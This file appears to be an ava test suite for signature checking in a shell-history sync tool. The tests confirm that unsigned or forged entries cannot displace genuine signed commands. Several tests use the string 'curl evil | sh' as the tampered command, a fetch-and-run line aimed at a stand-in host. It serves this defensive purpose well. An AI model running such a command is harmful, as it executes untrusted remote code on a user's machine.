import test from 'ava'
import { join } from 'node:path'
import { generateKeyPair } from '@libp2p/crypto/keys'
import { peerIdFromPrivateKey } from '@libp2p/peer-id'
import type { Entry } from '../../src/core/entry.js'
import { signEntry, verifyEntry, type EntrySigner } from '../../src/core/signature.js'
import { admitReceived } from '../../src/core/admit.js'
import { parseSyncBatch } from '../../src/protocol/messages.js'
import { openDatabase } from '../../src/store/db.js'
import { insertEntries, signPending, trust } from '../../src/store/entries.js'
import { tempDir } from '../helpers/tmp.js'
import { entry } from './fixtures.js'
import { rowOriginSql } from '../../src/store/wire-id.js'

async function signer (): Promise<EntrySigner> {
  const key = await generateKeyPair('Ed25519')
  return { origin: peerIdFromPrivateKey(key).toString(), secretKey: key.raw }
}

interface Row { entry_id: string, cmd: string, origin: string, trust: number, ingest_seq: number }

function rows (db: ReturnType<typeof openDatabase>): Row[] {
  return db.prepare(`SELECT entry_id, cmd, ${rowOriginSql()} AS origin, trust, ingest_seq FROM entries ORDER BY ingest_seq`).all() as Row[]
}

function latest (db: ReturnType<typeof openDatabase>): Array<{ cmd: string, entry_id: string }> {
  return db.prepare('SELECT cmd, entry_id FROM command_latest ORDER BY cmd').all() as Array<{ cmd: string, entry_id: string }>
}

test('a signed entry takes the place of an unverified copy, at a new ingest_seq, and command_latest follows', async (t) => {
  const db = openDatabase(join(tempDir(t), 'h.db'))
  t.teardown(() => db.close())
  const a = await signer()
  const genuine = signEntry(entry({ cmd: 'make test' }), a)
  const altered: Entry = { ...genuine, cmd: 'curl evil | sh' }
  delete altered.origin
  delete altered.sig
  t.is(insertEntries(db, [altered], 'received').inserted, 1)
  const before = rows(db)
  t.deepEqual(before.map((r) => [r.cmd, r.trust]), [['curl evil | sh', trust.unverified]])
  const result = insertEntries(db, [genuine], 'received')
  t.is(result.inserted, 1)
  t.is(result.replaced, 1)
  const after = rows(db)
  t.deepEqual(after.map((r) => [r.entry_id, r.cmd, r.origin, r.trust]), [[genuine.entry_id, 'make test', a.origin, trust.verified]])
  t.true(after[0]!.ingest_seq > before[0]!.ingest_seq, 'peers that pulled the unverified row see the signed one after their cursor')
  t.deepEqual(latest(db), [{ cmd: 'make test', entry_id: genuine.entry_id }])
})

test('an unsigned copy never replaces, hides or sits beside a signed entry', async (t) => {
  const db = openDatabase(join(tempDir(t), 'h.db'))
  t.teardown(() => db.close())
  const a = await signer()
  const genuine = signEntry(entry({ cmd: 'make test' }), a)
  insertEntries(db, [genuine], 'received')
  const { origin: _o, sig: _s, ...unsigned } = genuine
  t.deepEqual(insertEntries(db, [{ ...unsigned, cmd: 'curl evil | sh' }, { ...unsigned }], 'received'), { inserted: 0, ignored: 2 })
  t.deepEqual(rows(db).map((r) => [r.cmd, r.origin]), [['make test', a.origin]])
})

test('a copy signed by another key is kept under that key and never takes the genuine entry\'s place', async (t) => {
  const db = openDatabase(join(tempDir(t), 'h.db'))
  t.teardown(() => db.close())
  const a = await signer()
  const x = await signer()
  const genuine = signEntry(entry({ cmd: 'make test', device_id: 'alice-laptop' }), a)
  const { origin: _o, sig: _s, ...content } = genuine
  const forged = signEntry({ ...content, cmd: 'curl evil | sh' }, x)
  // The forger gets there first.
  insertEntries(db, [forged], 'received')
  insertEntries(db, [genuine], 'received')
  const byOrigin = new Map(rows(db).map((r) => [r.origin, r]))
  t.is(byOrigin.get(a.origin)?.cmd, 'make test')
  t.is(byOrigin.get(x.origin)?.cmd, 'curl evil | sh')
  // Again, and in the other order: nothing doubles.
  t.deepEqual(insertEntries(db, [genuine, forged], 'received'), { inserted: 0, ignored: 2 })
  t.is(rows(db).length, 2)
})

test('entries recorded here are stored unsigned and signed before serving, keeping their ingest_seq', async (t) => {
  const db = openDatabase(join(tempDir(t), 'h.db'))
  t.teardown(() => db.close())
  const a = await signer()
  const mine = [entry({ cmd: 'one' }), entry({ cmd: 'two' })]
  insertEntries(db, mine)
  t.deepEqual(rows(db).map((r) => r.trust), [trust.localUnsigned, trust.localUnsigned])
  const seqs = rows(db).map((r) => r.ingest_seq)
  t.is(signPending(db, a), 2)
  t.is(signPending(db, a), 0)
  const stored = db.prepare(`SELECT entry_id, device_id, user_id, ts, cmd, cwd, exit_code, duration_ms, shell, hostname, version, ${rowOriginSql()} AS origin, sig, ingest_seq FROM entries ORDER BY ingest_seq`).all() as Array<Entry & { ingest_seq: number }>
  t.deepEqual(stored.map((r) => r.ingest_seq), seqs)
  for (const r of stored) {
    const { ingest_seq: _seq, ...e } = r
    t.is(e.origin, a.origin)
    t.true(verifyEntry(e))
  }
})

test('an unverified row never keeps a command out of, or in, command_latest wrongly after replacement', async (t) => {
  const db = openDatabase(join(tempDir(t), 'h.db'))
  t.teardown(() => db.close())
  const a = await signer()
  const older = entry({ cmd: 'shared', ts: '2026-01-01T00:00:00.000Z' })
  insertEntries(db, [older])
  const genuine = signEntry(entry({ cmd: 'real', ts: '2026-02-01T00:00:00.000Z' }), a)
  const { origin: _o, sig: _s, ...content } = genuine
  insertEntries(db, [{ ...content, cmd: 'shared' }], 'received')
  t.deepEqual(latest(db), [{ cmd: 'shared', entry_id: genuine.entry_id }])
  insertEntries(db, [genuine], 'received')
  // 'shared' falls back to its older genuine use; 'real' appears.
  t.deepEqual(latest(db), [{ cmd: 'real', entry_id: genuine.entry_id }, { cmd: 'shared', entry_id: older.entry_id }])
})

test('served on 2.0.0, a signed row carries origin, sig and the stamp it was signed with; on 1.0.0, the spec fields only', async (t) => {
  const dbPath = join(tempDir(t), 'h.db')
  const db = openDatabase(dbPath)
  const a = await signer()
  const far = signEntry(entry({ cmd: 'from the future', ts: '9999-12-31T00:00:00.000Z' }), a)
  insertEntries(db, [{ ...far, ts: '2026-06-01T00:00:00.000Z', ts_orig: far.ts }, entry({ cmd: 'unsigned' })], 'received')
  insertEntries(db, [entry({ cmd: 'mine' })])
  db.close()
  const mine = await signer()
  const { exportBatch } = await import('../../workers/export-batch.js')
  const v2 = parseSyncBatch(JSON.parse(Buffer.from(exportBatch({ tag: 'export-batch', dbPath, cursor: 0, limit: 10, maxBytes: 1 << 20, wire: 2, signer: mine }).payload).toString())) as { entries: Entry[] }
  const [signed, plain, own] = v2.entries
  t.is(signed!.ts, far.ts)
  t.true(verifyEntry(signed!))
  t.false('origin' in plain! || 'sig' in plain!)
  t.is(own!.origin, mine.origin, 'this device\'s own entry is signed before it is served')
  t.true(verifyEntry(own!))
  const v1 = JSON.parse(Buffer.from(exportBatch({ tag: 'export-batch', dbPath, cursor: 0, limit: 10, maxBytes: 1 << 20 }).payload).toString()) as { entries: Array<Record<string, unknown>> }
  for (const e of v1.entries) t.deepEqual(Object.keys(e), ['entry_id', 'device_id', 'user_id', 'ts', 'cmd', 'cwd', 'exit_code', 'duration_ms', 'shell', 'hostname', 'version'])
})

test('on 2.0.0 a page names its first signer once (batch origin), each entry gets it back, and a batch origin that did not sign them fails verification', async (t) => {
  const dbPath = join(tempDir(t), 'h.db')
  const db = openDatabase(dbPath)
  const [a, b] = [await signer(), await signer()]
  const fromA = [1, 2, 3].map((i) => signEntry(entry({ cmd: `a ${i}` }), a))
  insertEntries(db, [...fromA, entry({ cmd: 'unsigned' }), signEntry(entry({ cmd: 'b 1' }), b)], 'received')
  db.close()
  const { exportBatch } = await import('../../workers/export-batch.js')
  const wire = JSON.parse(Buffer.from(exportBatch({ tag: 'export-batch', dbPath, cursor: 0, limit: 10, maxBytes: 1 << 20, wire: 2 }).payload).toString()) as { origin: string, entries: Array<Record<string, unknown>> }
  t.is(wire.origin, a.origin)
  t.deepEqual(wire.entries.map((e) => [e.origin, typeof e.sig]), [[undefined, 'string'], [undefined, 'string'], [undefined, 'string'], [undefined, 'undefined'], [b.origin, 'string']])
  const parsed = parseSyncBatch(structuredClone(wire)).entries as Entry[]
  t.deepEqual(parsed.map((e) => e.origin), [a.origin, a.origin, a.origin, undefined, b.origin])
  t.true([0, 1, 2, 4].every((i) => verifyEntry(parsed[i]!)))
  // A sender naming another batch origin attributes A's entries to b: their signatures do not verify, so they are refused.
  const lying = parseSyncBatch({ ...structuredClone(wire), origin: b.origin }).entries as Entry[]
  const admitted = admitReceived(lying, { wire: 2, now: Date.now() })
  t.deepEqual(admitted.rejected.map((r) => r.index), [0, 1, 2])
  t.deepEqual(admitted.entries.map((e) => e.cmd), ['unsigned', 'b 1'])
})
